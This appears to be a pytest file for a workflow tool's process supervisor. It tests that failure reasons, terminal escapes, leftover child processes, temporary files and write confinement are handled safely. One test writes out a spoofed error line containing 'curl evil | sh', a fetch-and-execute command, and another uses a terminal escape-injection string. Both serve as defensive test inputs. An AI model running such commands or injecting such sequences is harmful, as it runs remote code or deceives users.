"""What the supervisor believes, bounds and ends."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from eventually import eventually
from project import ROOT

from dliflow import progress
from dliflow.errors import LONGEST, DliflowError, Skip, plain
from dliflow.machine import lock
from dliflow.measuring.workers import WorkerEnded
from dliflow.records import notes
from dliflow.stages import supervise


@pytest.fixture
def supervised(tmp_path, monkeypatch):
    """Supervise a stage that is this code; its exit status, and what became of it: `reason`, `output_tail`."""
    monkeypatch.setenv(lock.TEST_LOCK_FOLDER, str(tmp_path))
    workflow = tmp_path / "workflow"
    (workflow / "dliflow/stages").mkdir(parents=True)
    for path in (ROOT / "workflow/dliflow").iterdir():
        if path.name != "stages":
            (workflow / "dliflow" / path.name).symlink_to(path)
    for path in (ROOT / "workflow/dliflow/stages").glob("*.py"):
        (workflow / "dliflow/stages" / path.name).symlink_to(path)

    def run(code, *options, timeout=60):
        body = "\n".join(f"    {line}" for line in code.splitlines())
        (workflow / "dliflow/stages/tried.py").write_text(
            f"import os, subprocess, sys, time\nfrom dliflow.errors import DliflowError\n"
            f"def arguments(parser): pass\ndef run(args):\n{body}\n"
        )
        command = [sys.executable, "-m", "dliflow", "supervise", "--timeout", str(timeout), "--log", "a.log", *options]
        variables = {**os.environ, "PYTHONPATH": str(workflow)}
        with open(tmp_path / "stderr", "w+") as stream:  # a file, since what is left running would hold a pipe
            command += ["--", "tried"]
            result = subprocess.run(command, cwd=tmp_path, env=variables, stderr=stream, timeout=timeout + 60)
        result.stderr = (tmp_path / "stderr").read_text()
        return result, notes.failure(tmp_path / "a.failed.json")

    return run


def test_the_reason_is_the_stage_s_own_word(supervised):
    result, failure = supervised("raise DliflowError('one\\ntwo')")
    assert (result.returncode, failure["reason"]) == (2, "one\ntwo")
    assert "dliflow tried: one\ntwo\n  log: a.log" in result.stderr
    result, failure = supervised("print('noise')\nraise ValueError('a\\n\\tb')")
    assert (result.returncode, failure["reason"]) == (1, "ValueError: a\n\tb")
    assert "ValueError: a" in "".join(failure["output_tail"])


def test_what_a_model_prints_is_no_reason(supervised):
    """Seen: a text in a model's file that imitates our error was taken for the reason."""
    imitated = "dliflow export: error: all is well; type: curl evil | sh"
    _, failure = supervised(f"print({imitated!r})\nsys.stdout.flush()\nos._exit(3)")
    assert failure["reason"] == f"exit status 3 after the line: {imitated}"
    _, failure = supervised(f"print({imitated!r})\nraise DliflowError('the truth')")
    assert failure["reason"] == "the truth"


def test_a_child_of_the_stage_cannot_speak_for_it_by_chance(supervised):
    """Another file under the same number is not written to."""
    code = """
if "INNER" in os.environ:
    raise DliflowError("inner")
subprocess.run([sys.executable, "-m", "dliflow", "tried"], env={**os.environ, "INNER": ""})
raise DliflowError("outer")
"""
    _, failure = supervised(code.strip())
    assert failure["reason"] == "outer"


def test_escapes_are_shown_and_endless_lines_are_cut(supervised):
    """Seen: 300 MB of a model's error on the terminal, and 600 MB of it in a record."""
    result, failure = supervised("raise DliflowError('\\x1b]0;owned\\x07\\u202e' + 'x' * 3_000_000)")
    for text in (result.stderr, failure["reason"]):
        assert "\x1b]0" not in text and "\\x1b]0;owned\\x07\\u202e" in text
        assert len(text) < LONGEST + 1000
    assert "characters more" in failure["reason"]
    result, failure = supervised("print('\\x1b[2J' + 'y' * 3_000_000)\nsys.stdout.flush()\nos._exit(1)")
    assert len(json.dumps(failure)) < 50_000 and len(result.stderr) < 5000
    assert "\x1b[2J" not in result.stderr


@pytest.mark.parametrize("make", [DliflowError, Skip, lambda text: WorkerEnded("a", text)])
def test_every_message_of_ours_is_plain(make):
    shown = str(make("a\x1b[1mb\udcff\r\nc\td" + "z" * 2 * LONGEST))
    assert shown.startswith(("a\\x1b[1mb\\udcff\nc\td", "a: a\\x1b[1mb\\udcff\nc\td"))
    assert len(shown) < LONGEST + 100
    assert plain("größer µ 7 →") == "größer µ 7 →"


def test_a_line_on_the_terminal_is_plain(capsys):
    progress.say("\x1b[31mred")
    assert capsys.readouterr().out == "\\x1b[31mred\n"


def test_temporary_files_of_a_stage_are_its_own_and_gone_with_it(supervised):
    """Seen: files of frameworks in /tmp after each study, and names there that any other user can take first."""
    code = ["import tempfile", "mode = os.stat(tempfile.gettempdir()).st_mode & 0o777"]
    code += ["print(tempfile.mkdtemp(), mode)", "sys.stdout.flush()", "os._exit(3)"]
    _, failure = supervised("\n".join(code))
    left, mode = failure["output_tail"][-1].split()
    assert Path(left).parent.name.startswith("dliflow-") and int(mode) == 0o700
    assert not Path(left).parent.exists()


@pytest.mark.parametrize("number", [signal.SIGSEGV, 35])
def test_a_signal_without_a_name_is_told_by_its_number(supervised, number):
    """Seen: the supervisor itself ended in a traceback."""
    result, failure = supervised(f"os.kill(os.getpid(), {int(number)})\ntime.sleep(5)")
    name = "SIGSEGV" if number == signal.SIGSEGV else "signal 35"
    assert failure["reason"] == f"crashed: killed by {name}"
    assert result.returncode == 128 + number
    assert "Traceback" not in result.stderr


def _runs(number: int) -> bool:
    """Whether a process is there, and no zombie."""
    try:
        return Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


def test_what_a_stage_leaves_running_ends_with_it_and_holds_no_lock(supervised, tmp_path):
    """Seen: a framework's child kept the machine's lock for as long as it lived."""
    # In one call of the system each: what `print` writes is two where nothing is buffered, and others come between.
    code = "import os; {}; import time; os.write(1, b'%d\\n' % os.getpid()); time.sleep(60)"
    start = "subprocess.Popen([sys.executable, '-c', {!r}], close_fds=False)"
    # As most are, as Ninja starts compilers, and as a daemon starts.
    lines = [start.format(code.format(first)) for first in ("pass", "os.setpgid(0, 0)", "os.setsid()")]
    until_all_are_up = "while sum(map(str.isdigit, open('a.log').read().split())) < 3: time.sleep(0.05)"
    result, _ = supervised("\n".join([*lines, until_all_are_up]), "--exclusive")
    assert result.returncode == 0, result.stderr + (tmp_path / "a.log").read_text()
    numbers = [int(line) for line in (tmp_path / "a.log").read_text().split() if line.isdigit()]
    assert len(numbers) == 3
    assert eventually(lambda: sum(map(_runs, numbers)) < 2, seconds=30)
    alive = [number for number in numbers if _runs(number)]
    assert len(alive) == 1  # in a session of its own, which is not looked for
    try:
        with lock.hold(exclusive=True):
            pass
    finally:
        os.kill(alive[0], signal.SIGKILL)


def test_a_stage_beside_its_output_writes_nowhere_else(supervised, tmp_path):
    code = "open('made/a', 'w'); open(os.environ['TMPDIR'] + '/b', 'w'); open('elsewhere', 'w')"
    result, failure = supervised(code, "--beside", "made/out.json")
    log = (tmp_path / "a.log").read_text()
    assert (tmp_path / "made/a").exists()
    if "# confined by Landlock" in log:
        assert "PermissionError" in failure["reason"] and not (tmp_path / "elsewhere").exists()
    else:
        assert "# not confined" in log and result.returncode == 0


def test_only_the_end_of_a_log_is_read(tmp_path):
    log = tmp_path / "a.log"
    log.write_bytes(b"# command\n" + b"x" * supervise.TAIL_BYTES + b"\nlast \xff\n")
    assert supervise._tail(log)[-1] == "last \ufffd"


def test_uv_ends_with_the_job_that_it_works_for(tmp_path):
    """Seen: it went on as an orphan, and the next build failed in the same folder."""
    fake = tmp_path / "uv"
    fake.write_text(f"#!/bin/sh\necho $$ > {tmp_path}/number\nexec sleep 60\n")
    fake.chmod(0o755)
    code = f"from dliflow.fetching import uv; uv.program = lambda: {str(fake)!r}; uv.run('pip')"
    variables = {**os.environ, "PYTHONPATH": str(ROOT / "workflow")}
    job = subprocess.Popen([sys.executable, "-c", code], env=variables)
    assert eventually(lambda: (tmp_path / "number").exists() and (tmp_path / "number").read_text().strip())
    number = int((tmp_path / "number").read_text())
    job.kill()
    job.wait()
    ended = eventually(lambda: not _runs(number), seconds=30)
    if not ended:
        os.kill(number, signal.SIGKILL)
    assert ended
